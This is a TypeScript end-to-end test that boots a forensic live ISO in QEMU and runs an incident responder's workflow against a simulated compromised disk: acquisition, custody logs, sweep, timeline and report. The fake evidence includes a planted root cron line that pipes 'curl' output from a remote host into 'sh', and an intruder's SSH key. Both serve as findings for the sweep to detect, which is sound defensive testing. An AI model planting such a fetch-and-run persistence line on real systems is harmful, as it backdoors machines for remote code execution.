// SPDX-License-Identifier: GPL-3.0-or-later
// The responder's field workflow (README, "The field workflow, step by step"), proven by one boot
// of the forensic ISO: an evidence disk, a bystander disk, a blank collection disk and a network
// card on QEMU's restricted user-mode network. The boot picks "keyboard: German (de)" in the
// forensic entry's keyboard submenu with the keys a person would press. A guest script runs the
// README's commands as typed: collection disk, case, network up (DHCP), acquire into the case and
// over TCP to a listener of this test on the host's loopback, mount, verify, sweep, timeline,
// report, network down, case close, release; the self-test runner then powers off.
// On the host: the case folder on the collection disk holds images, custody logs, journal and
// report; every hash agrees; the journal's chain holds; the evidence and the bystander disk are
// unchanged byte for byte, and only the collection disk was written.
import { createHash } from 'node:crypto';
import { createWriteStream, existsSync, mkdirSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo, type Server } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bootIso, buildProfile, TEST_OUT, type BootOutcome } from '../helpers/e2e.js';
import { blankImage, dirtyExt4, sh, sha256File } from '../helpers/evidence.js';

const DIR = path.join(TEST_OUT, 'field-workflow');
const CASE_ID = 'IR-E2E-55';
const GUEST_PORT = 9000;
/** The guest's address for the forward (boot-test --net-forward; see src/builder/qemu/user-net.ts). */
const HOST_FROM_GUEST = '10.0.2.100';
/** In the keyboard submenu (right below the forensic entry): us, uk, de. */
const MENU_KEYS = 'down,ret,down,down,ret';

const disks = { evidence: '', bystander: '', collection: '' };
let received = '';
let receivedEnded = false;
let listener: Server | undefined;
let hostPort = 0;
let boot: BootOutcome;
const before: Record<string, string> = {};
const after: Record<string, string> = {};
let iso = '';
let isoBefore = '';

/** A small Debian-looking system: a dpkg database claiming one package, and persistence to sweep. */
function evidenceImage(file: string): string {
  const root = path.join(DIR, 'evidence-tree');
  rmSync(root, { recursive: true, force: true });
  const put = (p: string, text: string, mode = 0o644) => {
    mkdirSync(path.dirname(path.join(root, p)), { recursive: true });
    writeFileSync(path.join(root, p), text, { mode });
  };
  put('etc/hostname', 'web-01\n');
  put('etc/passwd', 'root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n');
  put('etc/cron.d/update-check', '*/5 * * * * root curl -s http://203.0.113.7/u | sh\n');
  put('root/.ssh/authorized_keys', 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyOfTheIntruder intruder@example\n', 0o600);
  put('usr/local/bin/helper', '#!/bin/sh\necho helper\n', 0o755);
  put('var/lib/dpkg/status', 'Package: evidence-tool\nStatus: install ok installed\nVersion: 1.0\nArchitecture: amd64\n\n');
  put('var/lib/dpkg/info/evidence-tool.list', '/usr/local/bin/helper\n');
  put('var/www/notes.txt', 'the evidence itself\n');
  // As a real disk: a GPT with one Linux partition holding the file system.
  blankImage(file, 64);
  sh(['sgdisk', '-n', '1:2048:0', '-t', '1:8300', '-c', '1:evidence-root', file]);
  const part = blankImage(`${file}.part1`, 62);
  try {
    sh(['mkfs.ext4', '-q', '-F', '-L', 'EVROOT', '-d', root, part]);
    sh(['dd', `if=${part}`, `of=${file}`, 'bs=1M', 'seek=1', 'conv=notrunc,fsync', 'status=none']);
  } finally {
    rmSync(part, { force: true });
  }
  return file;
}

const GUEST_SCRIPT = `#!/bin/bash
set -u
# A disk by the serial QEMU gave it (the SERIAL column of responder devices).
dev() { for d in /sys/block/*; do [ "$(cat "$d/serial" 2>/dev/null)" = "$1" ] && { echo "/dev/\${d##*/}"; return 0; }; done; return 1; }
step() { echo "STEP $1 exit $2"; }
EV=$(dev EVIDENCE1) || { echo "no evidence disk"; exit 1; }
COLL=$(dev COLLECT1) || { echo "no collection disk"; exit 1; }
IFACE=$(ls /sys/class/net | grep -v '^lo$' | head -n1)
echo "DISKS evidence=$EV collection=$COLL iface=$IFACE"
# The keymap picked in the boot menu, loaded before the console's login.
echo "KEYMAP-UNIT $(systemctl is-active forensic-live-keymap.service) $(journalctl -b -u forensic-live-keymap.service -o cat | grep 'keyboard:' | tail -n1)"
echo "KEYCODE21 $(dumpkeys 2>/dev/null | grep -m1 -E '^keycode +21 =' | tr -s ' ')"

# 1. As typed at the console's autologin (user responder): elevates itself through sudo.
runuser -u responder -- responder devices > /tmp/devices.txt 2>/tmp/devices.err; step devices-as-user $?
grep -q 'through sudo' /tmp/devices.err && echo "DEVICES-SUDO yes"
tail -n1 /tmp/devices.txt | sed 's/^/DEVICES-LAST /'
# 2. The collection disk, confirmed by its serial.
responder collect prepare "$COLL" --serial COLLECT1; step collect-prepare $?
responder collect status | sed 's/^/COLLECT-STATUS /'
# 3. The case.
responder case open /mnt/collection/${CASE_ID} --case ${CASE_ID} --examiner "E2E Responder" --evidence HD-01; step case-open $?
# 4. Network, on purpose.
responder net up "$IFACE" --dhcp; step net-up $?
echo "LISTENING $(ss -Hltnu | wc -l)"
# 5. Copy the evidence: into the case, and to the analyst's host.
responder acquire "$EV"; step acquire-case $?
responder acquire "$EV" --to tcp://${HOST_FROM_GUEST}:${GUEST_PORT}; step acquire-tcp $?
# 6. Look at the copy, results into the case.
responder devices --image /mnt/collection/${CASE_ID}/HD-01.raw | sed 's/^/IMAGE-DEVICES /'
responder mount /mnt/collection/${CASE_ID}/HD-01.raw:1 /mnt/evidence; step mount $?
responder verify /mnt/evidence > /tmp/verify.txt; step verify $?
responder sweep /mnt/evidence > /tmp/sweep.txt; step sweep $?
responder timeline /mnt/evidence > /dev/null; step timeline $?
responder umount /mnt/evidence; step umount $?
# 7. The report, with the activity journal checked.
responder report; step report $?
# 8. Done.
responder net down "$IFACE"; step net-down $?
responder case close; step case-close $?
responder collect release; step collect-release $?
for b in /sys/class/block/*; do printf 'RO %s=%s ' "\${b##*/}" "$(cat $b/ro)"; done; echo
exit 0
`;

beforeAll(async () => {
  const forensic = await buildProfile('forensic');
  iso = forensic.iso;
  rmSync(DIR, { recursive: true, force: true });
  mkdirSync(DIR, { recursive: true });
  disks.evidence = evidenceImage(path.join(DIR, 'evidence.img'));
  disks.bystander = dirtyExt4(path.join(DIR, 'bystander.img'), 'EVBYSTANDER');
  disks.collection = blankImage(path.join(DIR, 'collection.img'), 256);
  // The analyst's receiver on the host's loopback (what `nc -l 9000 > HD-01.raw` would be).
  received = path.join(DIR, 'received-HD-01.raw');
  const out = createWriteStream(received);
  listener = createServer((s) => {
    s.pipe(out);
    s.on('end', () => (receivedEnded = true));
  });
  await new Promise<void>((r) => listener!.listen(0, '127.0.0.1', r));
  hostPort = (listener.address() as AddressInfo).port;

  for (const [k, f] of Object.entries(disks)) before[k] = sha256File(f);
  isoBefore = sha256File(iso);
  const script = path.join(DIR, 'workflow.sh');
  writeFileSync(script, GUEST_SCRIPT);
  boot = await bootIso(iso, [
    '--timeout',
    '1800',
    '--script',
    script,
    '--menu-keys',
    MENU_KEYS,
    '--net',
    '--net-forward',
    `${GUEST_PORT}:${hostPort}`,
    '--disk',
    `file=${disks.evidence},if=virtio,serial=EVIDENCE1`,
    '--disk',
    `file=${disks.bystander},if=ahci,serial=EVBYSTANDER`,
    '--disk',
    `file=${disks.collection},if=virtio,serial=COLLECT1`,
  ]);
  for (const [k, f] of Object.entries(disks)) after[k] = sha256File(f);
  process.stdout.write(`field workflow script output:\n${boot.scriptOutput ?? ''}\n`);
}, 3_600_000);

afterAll(() => listener?.close());

/** The collection disk's file system, mounted read-only on the host for the duration of `fn`. */
function withCollectionDisk<T>(fn: (caseDir: string) => T): T {
  const mnt = path.join(DIR, 'collection-mnt');
  mkdirSync(mnt, { recursive: true });
  // The first partition as a loop device of its own (offset and size from sfdisk): no partition
  // scan, so no dependence on udev or on device nodes appearing (CI hosts have neither udevadm nor
  // partition nodes for loop devices).
  const table = JSON.parse(sh(['sfdisk', '--json', disks.collection])) as { partitiontable: { sectorsize?: number; partitions: { start: number; size: number }[] } };
  const sector = table.partitiontable.sectorsize ?? 512;
  const first = table.partitiontable.partitions[0]!;
  const loop = sh(['losetup', '--find', '--show', '--read-only', '--offset', String(first.start * sector), '--sizelimit', String(first.size * sector), disks.collection]).trim();
  try {
    sh(['mount', '-o', 'ro,noload', loop, mnt]);
    try {
      return fn(path.join(mnt, CASE_ID));
    } finally {
      sh(['umount', mnt]);
    }
  } finally {
    sh(['losetup', '-d', loop]);
  }
}

const sha256 = (b: Buffer | string) => createHash('sha256').update(b).digest('hex');
const steps = () => Object.fromEntries([...(boot.scriptOutput ?? '').matchAll(/^STEP (\S+) exit (\d+)$/gm)].map((m) => [m[1]!, Number(m[2])]));

describe('the field workflow on the forensic ISO', () => {
  it('runs every step of the README as typed, and the self-test passes', () => {
    expect(boot.finalLine).toBe('FORENSIC-LIVE-SELFTEST PASS');
    // With a network card present, forensic mode itself brought nothing up (before the script ran).
    const down = boot.checks.find((c) => c.check === 'network-down');
    expect(down?.pass, down?.detail).toBe(true);
    expect(down?.detail).toMatch(/interfaces: lo \S/); // the card is there, and down
    expect(boot.scriptExitCode).toBe(0);
    // verify: the claimed package is not in the CD's reference (UNVERIFIABLE); sweep: the cron job
    // and the intruder's key are findings. Both exit 1 for findings, and both still save their report.
    expect(steps()).toEqual({
      'devices-as-user': 0,
      'collect-prepare': 0,
      'case-open': 0,
      'net-up': 0,
      'acquire-case': 0,
      'acquire-tcp': 0,
      mount: 0,
      verify: 1,
      sweep: 1,
      timeline: 0,
      umount: 0,
      report: 0,
      'net-down': 0,
      'case-close': 0,
      'collect-release': 0,
    });
    const out = boot.scriptOutput ?? '';
    expect(out).toContain('DEVICES-SUDO yes');
    expect(out).toMatch(/^DEVICES-LAST writable disks: 0; every disk is read-only\b/m);
    expect(out).toMatch(/^COLLECT-STATUS .*writable disks: 1\b/m);
    expect(out).toMatch(/^LISTENING 0$/m); // net up starts nothing that listens
    // After release every disk is read-only again.
    expect(out).not.toMatch(/RO (vd|sd)\w*=0/);
  });

  it('booted the German entry of the keyboard submenu, and the keymap is loaded', () => {
    const cmdline = boot.checks.find((c) => c.check === 'kernel-cmdline');
    expect(cmdline?.pass, cmdline?.detail).toBe(true);
    expect(cmdline?.detail).toMatch(/: keyboard layout > .*keyboard: German \(de\)'$/);
    expect(boot.checks.find((c) => c.check === 'forensic-mode')?.pass).toBe(true);
    const out = boot.scriptOutput ?? '';
    expect(out).toMatch(/^KEYMAP-UNIT active keyboard: German \(de-latin1-nodeadkeys\)$/m);
    expect(out).toMatch(/^KEYCODE21 keycode 21 = \+?z\b/m); // the key right of T types z on a German keyboard
  });

  it('changed no byte of any disk but the collection disk', () => {
    expect(after.evidence).toBe(before.evidence);
    expect(after.bystander).toBe(before.bystander);
    expect(sha256File(iso)).toBe(isoBefore);
    expect(after.collection).not.toBe(before.collection);
  });

  it('sent the same image over TCP to the listener on the host', () => {
    expect(receivedEnded).toBe(true);
    expect(sha256File(received)).toBe(before.evidence);
  });

  it('left a complete case folder whose hashes all agree and whose journal chain holds', () => {
    withCollectionDisk((caseDir) => {
      const names = readdirSync(caseDir);
      for (const want of ['case.json', 'journal.jsonl', 'HD-01.raw', 'HD-01.raw.custody.json', 'HD-01.raw.custody.txt', 'report.md', 'report.html']) {
        expect(names, want).toContain(want);
      }
      for (const prefix of ['verify-', 'sweep-', 'net-up-', 'net-down-'])
        expect(
          names.some((n) => n.startsWith(prefix) && n.endsWith('.json')),
          prefix,
        ).toBe(true);
      expect(names.filter((n) => n.endsWith('.partial'))).toEqual([]);

      // The image in the case and both custody logs: the evidence's sha256, verified, complete.
      const file = (n: string) => path.join(caseDir, n);
      expect(sha256File(file('HD-01.raw'))).toBe(before.evidence);
      const local = JSON.parse(readFileSync(file('HD-01.raw.custody.json'), 'utf8'));
      expect(local.hashes.sha256).toBe(before.evidence);
      expect(local.result).toBe('ok');
      expect(local.verification.status).toBe('verified');
      expect(local.liveImage.isoSha256).toBe(isoBefore); // the medium, read in the guest: this very ISO
      const remoteLog = names.find((n) => /^acquire-.*\.custody\.json$/.test(n));
      expect(remoteLog, names.join(' ')).toBeDefined();
      const remote = JSON.parse(readFileSync(file(remoteLog!), 'utf8'));
      expect(remote.hashes.sha256).toBe(before.evidence);
      expect(remote.destination.kind).toBe('tcp');
      expect(remote.result).toBe('ok');

      // The journal: every command, chained from case.json, and every recorded output unchanged.
      const lines = readFileSync(file('journal.jsonl'), 'utf8').trimEnd().split('\n');
      let prev = sha256(readFileSync(file('case.json')));
      const entries = lines.map((l) => JSON.parse(l));
      lines.forEach((l, i) => {
        expect(entries[i].prev, `entry ${i + 1}`).toBe(prev);
        prev = sha256(l);
      });
      // Each command as run: ['responder', 'net', 'up', ...].
      const commands = entries.map((e: { command: string[] }) => e.command.slice(1, 3).join(' '));
      for (const c of ['net up', 'acquire /dev', 'mount /mnt', 'verify /mnt', 'sweep /mnt', 'timeline /mnt', 'umount /mnt', 'report']) {
        expect(
          commands.some((x: string) => x.startsWith(c)),
          `${c} in ${commands.join(', ')}`,
        ).toBe(true);
      }
      for (const e of entries) {
        for (const o of e.outputs as { path: string; sha256: string; bytes: number }[]) {
          const p = path.isAbsolute(o.path) ? o.path : file(o.path);
          if (!p.startsWith(caseDir)) continue; // outside the case folder (e.g. /tmp): not on this disk
          expect(existsSync(p), o.path).toBe(true);
          expect(sha256File(p), o.path).toBe(o.sha256);
        }
      }
      // The report names the case, both acquisitions and the intact chain.
      const report = readFileSync(file('report.md'), 'utf8');
      expect(report).toContain(CASE_ID);
      expect(report).toContain(before.evidence!);
      expect(report).toMatch(/Activity journal: \d+ entries, hash chain intact/);
    });
  });
});
